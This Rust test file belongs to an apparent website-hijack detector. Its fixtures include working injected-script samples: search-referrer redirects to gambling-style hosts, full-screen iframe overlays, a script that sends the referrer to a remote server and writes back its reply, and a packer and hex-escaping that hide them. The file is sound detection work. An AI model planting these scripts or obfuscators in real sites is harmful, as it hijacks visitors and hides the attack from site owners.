//! Script screening: FACTS §7.3 (a), (c), (d), (e) signatures written by us, in plain,
//! escaped, packed and fromCharCode forms, and the hard negatives.

use std::time::{Duration, Instant};

use beian_detect::js::{screen_script, screen_scripts};
use beian_detect::page::extract;
use beian_detect::{Signal, Technique};

const OWNER: &str = "example-company.cn";

const REFERRER_HIJACK: &str = r#"var regexp=/\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|360)(\.[a-z0-9\-]+){1,2}\//ig;
var where=document.referrer;
if(regexp.test(where)){window.location.href='https://www.w88my.com/?aff=8817';}"#;

const OVERLAY: &str = r#"document.write('<style>html,body{overflow:hidden}</style><div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647"><iframe src="https://ig8.cc/" width="100%" height="100%" frameborder="0"></iframe></div>');"#;

fn strongest(signals: &[Signal]) -> f32 {
    signals.iter().map(|s| s.confidence).fold(0.0, f32::max)
}

fn find<'a>(signals: &'a [Signal], kind: &str) -> &'a Signal {
    signals
        .iter()
        .find(|s| s.kind == kind)
        .unwrap_or_else(|| panic!("expected a {kind} signal, got {signals:#?}"))
}

fn evidence_text(signal: &Signal) -> String {
    signal
        .evidence
        .iter()
        .map(|e| e.snippet.as_str())
        .collect::<Vec<_>>()
        .join(" | ")
}

/// Every character of every string literal as `\xNN` (ASCII) — what sojson-style tools emit.
fn hex_escape(text: &str) -> String {
    text.bytes().map(|b| format!("\\x{b:02x}")).collect()
}

fn base62(mut n: usize, base: usize) -> String {
    let digit = |d: usize| match d {
        0..=9 => char::from(b'0' + d as u8),
        10..=35 => char::from(b'a' + (d - 10) as u8),
        _ => char::from(b'A' + (d - 36) as u8),
    };
    let mut out = vec![digit(n % base)];
    n /= base;
    while n > 0 {
        out.push(digit(n % base));
        n /= base;
    }
    out.iter().rev().collect()
}

/// A Dean-Edwards-style packer written for the tests: every word becomes its base-62 index.
fn pack(source: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    let mut payload = String::new();
    let mut word = String::new();
    let mut flush = |word: &mut String, payload: &mut String| {
        if word.is_empty() {
            return;
        }
        let index = words.iter().position(|w| w == word).unwrap_or_else(|| {
            words.push(word.clone());
            words.len() - 1
        });
        payload.push_str(&base62(index, 62));
        word.clear();
    };
    for ch in source.chars() {
        if ch.is_ascii_alphanumeric() || ch == '_' {
            word.push(ch);
        } else {
            flush(&mut word, &mut payload);
            match ch {
                '\'' => payload.push_str("\\'"),
                '\\' => payload.push_str("\\\\"),
                '\n' => payload.push_str("\\n"),
                other => payload.push(other),
            }
        }
    }
    flush(&mut word, &mut payload);
    format!(
        "eval(function(p,a,c,k,e,d){{e=function(c){{return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))}};if(!''.replace(/^/,String)){{while(c--)d[e(c)]=k[c]||e(c);k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}}('{payload}',62,{},'{}'.split('|'),0,{{}}))",
        words.len(),
        words.join("|")
    )
}

#[test]
fn plain_referrer_redirect_is_hostile_and_names_the_target() {
    let screen = screen_script(REFERRER_HIJACK, Some(OWNER));
    let signal = find(&screen.signals, "referrer_redirect");
    assert_eq!(signal.technique, Technique::JsRedirect);
    assert!(signal.confidence >= 0.8);
    assert!(signal.explanation.contains("www.w88my.com"));
    assert!(evidence_text(signal).contains("w88my.com"));
    assert_eq!(
        screen.decoded_targets,
        vec!["https://www.w88my.com/?aff=8817".to_string()]
    );
}

#[test]
fn hex_escaped_referrer_redirect_is_decoded() {
    let script = format!(
        "var _r=new RegExp(\"{}\",\"ig\");if(_r[\"{}\"](document[\"{}\"])){{window[\"{}\"][\"{}\"]=\"{}\";}}",
        hex_escape(r"\.(sogou|soso|baidu|google|bing|360)(\.[a-z0-9\-]+){1,2}\/"),
        hex_escape("test"),
        hex_escape("referrer"),
        hex_escape("location"),
        hex_escape("href"),
        hex_escape("https://yb88002.com/r?c=17"),
    );
    assert!(
        !script.contains("yb88002"),
        "the test script hides the target"
    );
    let screen = screen_script(&script, Some(OWNER));
    let signal = find(&screen.signals, "referrer_redirect");
    assert!(signal.confidence >= 0.8);
    assert!(evidence_text(signal).contains("yb88002.com"));
    assert!(find(&screen.signals, "obfuscated_script").confidence <= 0.3);
}

#[test]
fn packed_referrer_redirect_is_unpacked() {
    let packed = pack(REFERRER_HIJACK);
    assert!(
        !packed.contains("www.w88my.com"),
        "the packer hides the URL"
    );
    let screen = screen_script(&packed, Some(OWNER));
    let signal = find(&screen.signals, "referrer_redirect");
    assert!(signal.confidence >= 0.8);
    assert!(evidence_text(signal).contains("w88my.com"));
    assert!(
        find(&screen.signals, "obfuscated_script")
            .explanation
            .contains("packer")
    );
}

#[test]
fn from_char_code_overlay_is_decoded() {
    let html = r#"<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647"><iframe src="https://ig8.cc/" width="100%" height="100%"></iframe></div>"#;
    let codes: Vec<String> = html.chars().map(|c| u32::from(c).to_string()).collect();
    let script = format!("document.write(String.fromCharCode({}));", codes.join(","));
    let screen = screen_script(&script, Some(OWNER));
    let signal = find(&screen.signals, "script_writes_iframe");
    assert_eq!(signal.technique, Technique::IframeOverlay);
    assert!(signal.confidence >= 0.8);
    assert!(evidence_text(signal).contains("ig8.cc"));
}

#[test]
fn document_write_iframe_overlay() {
    let screen = screen_script(OVERLAY, Some(OWNER));
    let signal = find(&screen.signals, "script_writes_iframe");
    assert!(signal.confidence >= 0.8);
    assert!(evidence_text(signal).contains("2147483647"));
}

#[test]
fn sojson_style_array_with_bare_ip_landing() {
    let strings = [
        "referrer",
        "test",
        "href",
        "location",
        "http://222.186.129.41/a/1.html",
    ];
    let array: Vec<String> = strings
        .iter()
        .map(|s| format!("\"{}\"", hex_escape(s)))
        .collect();
    let script = format!(
        "var __encode ='sojson.com', _a={{}}, _0xb483=[\"\\x5F\\x64\\x65\\x63\\x6F\\x64\\x65\",\"{}\"];\
         (function(_0xd642x1){{_0xd642x1[_0xb483[0]]= _0xb483[1]}})(_a);\
         var _0x3e1f=[{}];var _0x5a7c=/(sogou|soso|baidu|google|youdao|yahoo|bing|360)(\\.[a-z0-9\\-]+){{1,2}}\\//ig;\
         if(_0x5a7c[_0x3e1f[1]](document[_0x3e1f[0]])){{window[_0x3e1f[3]][_0x3e1f[2]]=_0x3e1f[4]}}",
        hex_escape("http://www.sojson.com/javascriptobfuscator.html"),
        array.join(","),
    );
    let screen = screen_script(&script, Some(OWNER));
    let signal = find(&screen.signals, "referrer_redirect");
    assert!(signal.confidence >= 0.8);
    assert!(
        signal.explanation.contains("222.186.129.41"),
        "{}",
        signal.explanation
    );
    assert!(!signal.explanation.contains("sojson.com"));
    let obfuscation = find(&screen.signals, "obfuscated_script");
    assert!(obfuscation.explanation.contains("sojson"));
}

#[test]
fn offsite_redirect_for_everyone_is_medium() {
    let screen = screen_script("top.location.replace('https://dl777.vip/');", Some(OWNER));
    let signal = find(&screen.signals, "offsite_redirect");
    assert!((0.4..0.8).contains(&signal.confidence));
}

#[test]
fn obfuscation_alone_is_low() {
    let screen = screen_script(
        &pack("function add(a,b){return a+b} console.log(add(1,2));"),
        Some(OWNER),
    );
    assert!(strongest(&screen.signals) <= 0.3, "{:#?}", screen.signals);
}

#[test]
fn legitimate_mobile_redirect_to_own_m_host_is_not_hostile() {
    let script = r#"var regexp=/\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|360)(\.[a-z0-9\-]+){1,2}\//ig;
if(regexp.test(document.referrer) && /Android|iPhone|iPad/i.test(navigator.userAgent)){window.location.href='https://m.example-company.cn/article/123.html';}"#;
    let screen = screen_script(script, Some("www.example-company.cn"));
    assert!(strongest(&screen.signals) <= 0.3, "{:#?}", screen.signals);
    assert!(screen.signals.iter().all(|s| s.kind != "referrer_redirect"));
}

#[test]
fn baidu_analytics_snippet_is_nothing() {
    let script = r#"var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();"#;
    assert!(screen_script(script, Some(OWNER)).signals.is_empty());
}

#[test]
fn bundled_library_unicode_tables_are_not_obfuscation() {
    let mut script = String::from(
        "var rsAstralRange='\\ud800-\\udfff',rsComboMarksRange='\\u0300-\\u036f',reComboHalfMarksRange='\\ufe20-\\ufe2f';var deburredLetters={",
    );
    for code in 0xC0..0x17F_u32 {
        script.push_str(&format!(
            "'\\u{code:04x}':'{}',",
            char::from(b'A' + (code % 26) as u8)
        ));
    }
    script.push_str("};function deburr(s){return s.replace(/[\\xc0-\\xd6\\xd8-\\xf6\\xf8-\\xff]/g,function(c){return deburredLetters[c]})}");
    script.push_str("if(options.redirect){window.location.href=options.redirect}");
    let screen = screen_script(&script, Some(OWNER));
    assert!(screen.signals.is_empty(), "{:#?}", screen.signals);
}

#[test]
fn screen_scripts_reads_page_facts() {
    let html = format!(
        "<html><head><title>公司</title><script>{REFERRER_HIJACK}</script><script src='https://hm.baidu.com/hm.js?1'></script></head><body><script>{OVERLAY}</script></body></html>"
    );
    let facts = extract(&html, None);
    let signals = screen_scripts(&facts.scripts, Some(OWNER));
    assert!(find(&signals, "referrer_redirect").confidence >= 0.8);
    assert!(find(&signals, "script_writes_iframe").confidence >= 0.8);
}

#[test]
fn pathological_scripts_stay_bounded() {
    let budget = Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 2 });

    let escapes = "\\x41\\u0042".repeat(5 * 1024 * 1024 / 10);
    let started = Instant::now();
    let _ = screen_script(&escapes, Some(OWNER));
    assert!(
        started.elapsed() < budget,
        "5 MB of escapes took {:?}",
        started.elapsed()
    );

    let mut nested = REFERRER_HIJACK.to_string();
    for _ in 0..8 {
        nested = pack(&nested);
    }
    let started = Instant::now();
    let _ = screen_script(&nested, Some(OWNER));
    assert!(
        started.elapsed() < budget,
        "nested packers took {:?}",
        started.elapsed()
    );

    let unterminated = "String.fromCharCode(1,".repeat(200_000) + &"atob('QUFB".repeat(200_000);
    let started = Instant::now();
    let _ = screen_script(&unterminated, Some(OWNER));
    assert!(
        started.elapsed() < budget,
        "unterminated calls took {:?}",
        started.elapsed()
    );
}

#[test]
fn remote_decision_writes_the_server_answer() {
    let script = r#"var x=new XMLHttpRequest();x.open("POST","https://api.tyc-example.net/tj",true);x.onload=function(){document.write(x.responseText);document.title="首页";};x.send("referer="+encodeURIComponent(document.referrer)+"&ua="+encodeURIComponent(navigator.userAgent));"#;
    let screen = screen_script(script, Some(OWNER));
    let signal = find(&screen.signals, "remote_decision");
    assert!(signal.confidence >= 0.8);
    assert!(signal.explanation.contains("api.tyc-example.net"));

    // Posting a form to the site's own API and showing the answer is ordinary.
    let own = r#"$.post("/api/search",{q:q},function(data){document.getElementById("r").innerHTML=data;});"#;
    assert!(screen_script(own, Some(OWNER)).signals.is_empty());
}

#[test]
fn created_iframe_overlay() {
    let script = r#"var f=document.createElement("iframe");f.src="https://kaiyun-example.me/";f.style.cssText="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647";document.body.appendChild(f);"#;
    let signal = find(
        &screen_script(script, Some(OWNER)).signals,
        "script_writes_iframe",
    )
    .clone();
    assert!(signal.confidence >= 0.8);
}

#[test]
fn written_offsite_script_is_suspicious_but_analytics_are_not() {
    let hostile = screen_script(
        r#"document.write(unescape('%3Cscript%20src%3D%22https%3A//js9199-example.vip/a.js%22%3E%3C/script%3E'));"#,
        Some(OWNER),
    );
    assert!(find(&hostile.signals, "script_writes_script").confidence >= 0.5);
    let cnzz = screen_script(
        r#"document.write('<script src="https://s4.cnzz.com/z_stat.php?id=1000&web_id=1000"></script>');"#,
        Some(OWNER),
    );
    assert!(cnzz.signals.is_empty(), "{:#?}", cnzz.signals);
}
